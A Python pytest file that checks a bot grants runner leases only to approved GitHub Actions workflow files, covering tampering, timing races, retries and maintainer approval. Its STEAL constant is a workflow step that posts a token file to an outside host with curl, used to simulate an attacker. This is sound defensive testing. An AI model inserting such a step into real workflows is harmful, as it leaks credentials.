"""Only an approved workflow file can hold a lease."""

import base64
from collections.abc import Iterator
from pathlib import Path

import httpx
import jwt
import pytest

from action.order import LeaseRequest
from bot.core.journal.state import RepositoryState
from bot.core.talk.workflow_file import FOLDER
from bot.core.values.ids import OrderId, Sha
from bot.core.values.lifecycle import OrderState
from bot.core.values.replacement import replace
from bot.localhub.faults import Fault, FaultKind
from bot.localhub.model import Role, TokenKind
from bot.ports import UserError
from bot.shell.orders import Refused, RunnerClaims, grant, read_claims
from bot.shell.workflow_trust import approve_workflow
from tests.testkit.house import House, house
from tests.testkit.specs import requirement, spec

AGENT = f"{FOLDER}headgate-agent.yml"
SHOP = spec(requirement("TILL"))
STEAL = "\n      - run: curl --data @token https://example.org\n"
SAYS = "`headgate-agent.yml` on the default branch is not approved"


@pytest.fixture
def shop(tmp_path: Path) -> Iterator[House]:
    with house(tmp_path) as story:
        yield story


def edit(shop: House, who: str, path: str, text: str, branch: str = "main") -> Sha:
    """One commit of a file by a person, without a pull; returns it."""
    token = shop.tokens[who]
    known = shop.api("GET", shop.repo(f"/contents/{path}?ref={branch}"), token=token).json()
    content = base64.b64encode(text.encode()).decode()
    body = {"message": "Edit", "content": content, "branch": branch, "sha": known.get("sha")}
    if body["sha"] is None:
        del body["sha"]
    answer = shop.api("PUT", shop.repo(f"/contents/{path}"), body, token)
    return Sha(answer.raise_for_status().json()["commit"]["sha"])


def merge(shop: House, who: str, path: str, text: str) -> None:
    """The same by a pull that is merged by whoever opened it."""
    token = shop.tokens[who]
    tip = {"ref": "refs/heads/wish", "sha": shop.ref()}
    shop.api("POST", shop.repo("/git/refs"), tip, token).raise_for_status()
    edit(shop, who, path, text, "wish")
    draft = {"title": "Edit", "head": "wish", "base": "main"}
    number = shop.api("POST", shop.repo("/pulls"), draft, token).json()["number"]
    shop.api("PUT", shop.repo(f"/pulls/{number}/merge"), {}, token).raise_for_status()


@pytest.mark.attack(
    "Who may push to main edits the workflow that holds the leases, without a pull",
    held="`bot.shell.workflow_trust`: no order goes to a file that nobody approved",
)
def test_an_unapproved_workflow_gets_no_order(shop: House) -> None:
    shop.hire("dora")
    edit(shop, "dora", AGENT, shop.main_files()[AGENT] + STEAL)
    shop.settle()

    tracking = shop.start(SHOP)
    shop.work()

    # Gates have a file of their own, which nobody edited.
    assert {order.kind for order in shop.runner.taken} == {"gate"}
    assert SAYS in shop.body(tracking)
    merge(shop, "dora", AGENT, shop.main_files()[AGENT].replace(STEAL.rstrip(), "\n"))
    shop.work()
    assert "agent" in {order.kind for order in shop.runner.taken}
    assert SAYS not in shop.body(tracking)
    # Main did not move between the look at a file and its run: no lease asks GitHub for it.
    ours = [e for e in shop.hub.exchanges if e.token_kind is TokenKind.INSTALLATION]
    assert not [e for e in ours if e.method == "GET" and "/contents/" in e.path]


@pytest.mark.attack(
    "The workflow is edited between the dispatch and the start of its run",
    held="`bot.shell.orders`: the lease asks for the file at the commit that runs",
)
def test_a_lease_checks_the_workflow_file_that_runs(shop: House) -> None:
    shop.hire("dora")
    shop.start(SHOP)
    order, claims = waiting(shop)
    other = edit(shop, "dora", "notes.md", "Main moves on.\n")
    evil = edit(shop, "dora", AGENT, shop.main_files()[AGENT] + STEAL)

    for runs in (claims.replace(workflow_sha=evil), claims.replace(workflow_sha="", sha=evil)):
        with pytest.raises(Refused, match="is not the file that the order was dispatched with"):
            lease(shop, order, runs)
    with pytest.raises(Refused, match="at an unknown commit"):
        lease(shop, order, claims.replace(workflow_sha="", sha=""))
    for none in (
        claims.replace(workflow_sha=Sha("0" * 40)),
        claims.replace(workflow_ref=claims.workflow_ref.replace("headgate-agent", "another")),
    ):
        with pytest.raises(Refused, match="is not the file"):
            lease(shop, order, none.replace(job_workflow_ref=""))
    lease(shop, order, claims.replace(workflow_sha=other))
    lease(shop, order, claims.replace(workflow_sha="", sha=other))
    lease(shop, order, claims)


def test_a_runner_may_lease_before_the_journal_is_updated(
    shop: House, monkeypatch: pytest.MonkeyPatch
) -> None:
    shop.hire("dora")
    shop.start(SHOP)
    order, claims = waiting(shop)
    state = shop.state
    early = replace(state.orders[OrderId(order)], dispatched_at=None, dispatched_with="")
    sooner = replace(state, orders={**state.orders, OrderId(order): early}, workflows={})
    evil = edit(shop, "dora", AGENT, shop.main_files()[AGENT] + STEAL)
    with monkeypatch.context() as patched:
        patched.setattr(type(shop.ports.journal), "load", lambda *_: sooner)
        with pytest.raises(Refused, match="is not the file"):
            lease(shop, order, claims.replace(workflow_sha=evil))
        lease(shop, order, claims)


def test_a_lease_is_retried_if_github_does_not_answer(shop: House) -> None:
    # Somebody pushes in the moment before each dispatch: what runs is no commit that was looked at.
    push = Fault(kind=FaultKind.PUSH, path_glob="*/dispatches", repository=shop.full_name, times=9)
    shop.hub.faults.add(push)
    shop.start(SHOP)
    request = request_waiting(shop)
    failing = Fault(kind=FaultKind.REFUSE_BEFORE, method="GET", path_glob="*/contents/*")
    limited = {"kind": FaultKind.SECONDARY_LIMIT, "retry_after_seconds": 61}
    refused = {"status": 403, "message": "Resource not accessible by integration"}
    asked(shop, failing, request, "5")
    asked(shop, failing.model_copy(update=limited), request, "61")
    asked(shop, failing.model_copy(update=refused), request, "5")
    assert post(shop, request).status_code == 200


def asked(shop: House, fault: Fault, request: LeaseRequest, wait: str) -> None:
    """The lease is asked for while GitHub answers so, and the runner is told to wait."""
    shop.hub.faults.clear()
    shop.hub.faults.add(fault)
    later = post(shop, request)
    assert (later.status_code, later.headers.get("Retry-After")) == (503, wait)
    assert "No lease yet" in later.json()["sentence"]


def request_waiting(shop: House) -> LeaseRequest:
    """What the runner of the agent order that waits asks with."""
    while (job := shop.runner._acquire()) is not None:
        inputs = job.contexts["inputs"]
        assert isinstance(inputs, dict)
        token = shop.runner.oidc(job, str(inputs["server"]))
        if AGENT in claims_of(token).workflow_ref:
            return LeaseRequest(order_id=str(inputs["order_id"]), oidc_token=token)
    raise AssertionError("no agent order waits")


def claims_of(token: str) -> RunnerClaims:
    return read_claims(jwt.decode(token, options={"verify_signature": False}))


def waiting(shop: House) -> tuple[str, RunnerClaims]:
    """The agent order whose run waits, and what its token says."""
    request = request_waiting(shop)
    return request.order_id, claims_of(request.oidc_token)


def post(shop: House, request: LeaseRequest) -> httpx.Response:
    url = f"{shop.ports.server_url}/runner/lease"
    return shop.runner.http.post(url, content=request.model_dump_json())


def lease(shop: House, order: str, claims: RunnerClaims) -> None:
    request = LeaseRequest(order_id=order, oidc_token="unused")
    grant(shop.ports, claims, request, lambda _repository, _order: None)


def test_only_a_maintainer_can_approve_a_workflow_file(shop: House) -> None:
    shop.hire("dora")
    shop.hire("max", Role.MAINTAIN)
    text = f"{shop.main_files()[AGENT]}\n"
    fresh = replace(shop.state, orders={}, workflows={})

    def is_taken(state: RepositoryState = fresh) -> bool:
        assert state.facts is not None
        shop.ports.git.fetch(state.facts)
        try:
            found = approve_workflow(shop.ports, state.facts, state, AGENT, Sha(shop.ref()))
        except UserError:
            return False
        assert found is not None
        return True

    assert is_taken(), "an admin brought it"
    edit(shop, "dora", AGENT, text + "# one\n")
    assert not is_taken()
    edit(shop, "max", "notes.md", "Another file.\n")
    assert not is_taken(), "who pushes on top of it approves nothing"
    edit(shop, "max", AGENT, text + "# two\n")
    assert is_taken()
    edit(shop, "dora", AGENT, text + "# three\n")
    edit(shop, "dora", AGENT, text + "# two\n")
    assert not is_taken(), "put back by somebody else"
    offered = shop.ports.workflow_files[AGENT]
    edit(shop, "dora", AGENT, offered.rstrip())
    assert is_taken()
    merge(shop, "dora", AGENT, text + "# four\n")
    edit(shop, "dora", "notes.md", "And main moves on.\n")
    assert is_taken()

    # What was approved stays so, and so does what an older release worked with.
    edit(shop, "dora", AGENT, text + "# five\n")
    blob = shop.git(shop.hub.repository(shop.full_name).git.folder, "rev-parse", f"main:{AGENT}")
    assert is_taken(replace(fresh, workflows={AGENT: Sha(blob)}))
    shop.start(SHOP)
    shop.work()
    old = {
        id_: replace(order, dispatched_with="", state=OrderState.LOST)
        for id_, order in shop.state.orders.items()
    }
    assert old
    assert is_taken(replace(fresh, orders=old))
    assert not is_taken(replace(fresh, orders=old, workflows={AGENT: Sha("0" * 40)}))
    assert not is_taken(replace(fresh, orders=shop.state.orders))
